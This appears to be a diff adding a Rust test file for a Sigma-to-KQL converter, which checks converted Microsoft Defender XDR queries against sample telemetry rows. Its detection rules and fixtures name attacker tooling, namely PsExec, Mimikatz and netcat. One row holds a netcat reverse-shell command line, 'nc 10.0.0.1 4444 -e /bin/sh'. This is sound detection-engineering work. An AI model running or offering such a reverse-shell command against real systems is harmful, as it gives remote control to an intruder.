@@ -1,0 +1,153 @@
+//! microsoft_xdr's added tables and action types (CloudAppEvents,
+//! EntraIdSignInEvents, DeviceEvents ServiceInstalled and AntivirusDetection,
+//! DeviceProcessEvents of the Linux sensor): each
+//! rule converted, then run over rows shaped as the table holds them — one row
+//! the rule must return and one it must not — by our evaluator and, where
+//! `shared/tools/kql-run` runs, by kql-run too.
+
+mod common;
+
+use common::{compare_with_kql_run, kql_run, shared};
+use serde_json::{json, Value};
+use sigmaplay_core::kql::convert;
+use sigmaplay_core::{parse_rule, pipeline, Placeholders};
+
+struct Case {
+    name: &'static str,
+    rule: &'static str,
+    table: &'static str,
+    /// Row the query must return, then a row it must not.
+    rows: [Value; 2],
+}
+
+fn cases() -> Vec<Case> {
+    vec![
+        Case {
+            name: "aws_cloudtrail",
+            rule: "title: t\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventSource: iam.amazonaws.com\n    eventName: CreateUser\n    userIdentity.type: IAMUser\n  condition: sel\n",
+            table: "CloudAppEvents",
+            // Defender for Cloud Apps' AWS connector: ActionType is the API name,
+            // RawEventData the CloudTrail record.
+            rows: [
+                json!({"Application": "Amazon Web Services", "ActionType": "CreateUser",
+                       "RawEventData": {"eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
+                                        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/a"}}}),
+                json!({"Application": "Amazon Web Services", "ActionType": "CreateUser",
+                       "RawEventData": {"eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
+                                        "userIdentity": {"type": "AssumedRole"}}}),
+            ],
+        },
+        Case {
+            name: "okta",
+            rule: "title: t\nlogsource:\n  product: okta\n  service: okta\ndetection:\n  sel:\n    eventType: user.mfa.factor.deactivate\n  condition: sel\n",
+            table: "CloudAppEvents",
+            rows: [
+                json!({"Application": "Okta", "RawEventData": {"eventType": "user.mfa.factor.deactivate",
+                                                               "outcome": {"result": "SUCCESS"}}}),
+                // The same record from another app is not an Okta event.
+                json!({"Application": "GitHub", "RawEventData": {"eventType": "user.mfa.factor.deactivate"}}),
+            ],
+        },
+        Case {
+            name: "github",
+            rule: "title: t\nlogsource:\n  product: github\n  service: audit\ndetection:\n  sel:\n    action: repo.destroy\n  condition: sel\n",
+            table: "CloudAppEvents",
+            rows: [
+                json!({"Application": "GitHub", "RawEventData": {"action": "repo.destroy", "actor": "a"}}),
+                json!({"Application": "GitHub", "RawEventData": {"action": "repo.create", "actor": "a"}}),
+            ],
+        },
+        Case {
+            name: "signinlogs",
+            rule: "title: t\nlogsource:\n  product: azure\n  service: signinlogs\ndetection:\n  sel:\n    ResultType: 50126\n    AuthenticationRequirement: singleFactorAuthentication\n  condition: sel\n",
+            table: "EntraIdSignInEvents",
+            rows: [
+                json!({"ErrorCode": 50126, "AuthenticationRequirement": "singleFactorAuthentication",
+                       "AccountUpn": "a@contoso.com"}),
+                json!({"ErrorCode": 0, "AuthenticationRequirement": "singleFactorAuthentication"}),
+            ],
+        },
+        Case {
+            name: "system_7045",
+            rule: "title: t\nlogsource:\n  product: windows\n  service: system\ndetection:\n  sel:\n    Provider_Name: Service Control Manager\n    EventID: 7045\n    ServiceName: PSEXESVC\n    AccountName: LocalSystem\n  condition: sel\n",
+            table: "DeviceEvents",
+            rows: [
+                json!({"ActionType": "ServiceInstalled", "FileName": "PSEXESVC.exe", "FolderPath": "C:\\Windows\\PSEXESVC.exe",
+                       "AdditionalFields": {"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem"}}),
+                // A named pipe event of the same process is no service install.
+                json!({"ActionType": "NamedPipeEvent", "AdditionalFields": {"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem"}}),
+            ],
+        },
+        Case {
+            name: "security_4697",
+            rule: "title: t\nlogsource:\n  product: windows\n  service: security\ndetection:\n  sel:\n    EventID: 4697\n    ServiceFileName|contains: '\\AppData\\'\n  condition: sel\n",
+            table: "DeviceEvents",
+            rows: [
+                json!({"ActionType": "ServiceInstalled", "FolderPath": "C:\\Users\\a\\AppData\\Local\\Temp\\svc.exe",
+                       "AdditionalFields": {"ServiceName": "svc"}}),
+                json!({"ActionType": "ServiceInstalled", "FolderPath": "C:\\Windows\\System32\\svchost.exe",
+                       "AdditionalFields": {"ServiceName": "svc"}}),
+            ],
+        },
+        Case {
+            name: "antivirus",
+            rule: "title: t\nlogsource:\n  category: antivirus\ndetection:\n  sel:\n    Signature|contains: Mimikatz\n  condition: sel\n",
+            table: "DeviceEvents",
+            rows: [
+                json!({"ActionType": "AntivirusDetection", "FileName": "m.exe", "FolderPath": "C:\\Temp\\m.exe",
+                       "AdditionalFields": {"ThreatName": "HackTool:Win32/Mimikatz.D", "WasRemediated": true}}),
+                json!({"ActionType": "AntivirusDetection", "AdditionalFields": {"ThreatName": "PUA:Win32/Presenoker"}}),
+            ],
+        },
+        Case {
+            name: "linux_process_creation",
+            rule: "title: t\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n  sel:\n    Image|endswith: /nc\n    CommandLine|contains: ' -e '\n  condition: sel\n",
+            table: "DeviceProcessEvents",
+            // Defender for Endpoint on Linux: paths with slashes, no version info.
+            rows: [
+                json!({"FileName": "nc", "FolderPath": "/usr/bin/nc", "ProcessCommandLine": "nc 10.0.0.1 4444 -e /bin/sh",
+                       "AccountName": "root"}),
+                json!({"FileName": "nc", "FolderPath": "/usr/bin/nc", "ProcessCommandLine": "nc -l 4444"}),
+            ],
+        },
+    ]
+}
+
+/// The query each case's rule converts to on microsoft_xdr.
+fn query(c: &Case) -> String {
+    let p = pipeline::builtin("microsoft_xdr").unwrap_or_else(|| panic!("microsoft_xdr"));
+    let rule = parse_rule(c.rule).unwrap_or_else(|d| panic!("{}: {d:#?}", c.name));
+    let conv = convert(&rule, &p, &Placeholders::new());
+    assert!(!conv.diagnostics.iter().any(|d| d.is_error()), "{}: {:#?}", c.name, conv.diagnostics);
+    let q = conv.queries.first().unwrap_or_else(|| panic!("{}: no query", c.name)).clone();
+    assert!(q.starts_with(c.table), "{}: {q}", c.name);
+    q
+}
+
+#[test]
+fn added_tables_on_our_evaluator() {
+    for c in cases() {
+        let q = query(&c);
+        let ev = sigmaplay_core::kusto::evaluate(&q, &c.rows);
+        assert!(!ev.diagnostics.iter().any(|d| d.is_error()), "{}: {:#?}", c.name, ev.diagnostics);
+        assert_eq!(ev.matched(2), vec![true, false], "{}: {q}", c.name);
+    }
+}
+
+#[test]
+fn added_tables_on_kql_run() {
+    let tool = shared().join("tools/kql-run/kql-run");
+    if !tool.exists() {
+        eprintln!("xdr_tables: no kql-run, skipped");
+        return;
+    }
+    let cases = cases();
+    let lines: Vec<String> = cases
+        .iter()
+        .map(|c| json!({"id": c.name, "query": query(c), "events": c.rows, "expected": [0]}).to_string())
+        .collect();
+    let Some(results) = kql_run(&tool, "xdr_tables", &lines) else { return };
+    let (same, differ) = compare_with_kql_run(&results, |_| Some(vec![0]), "microsoft_xdr");
+    assert!(differ.is_empty(), "{differ:#?}");
+    assert_eq!(same, cases.len());
+}
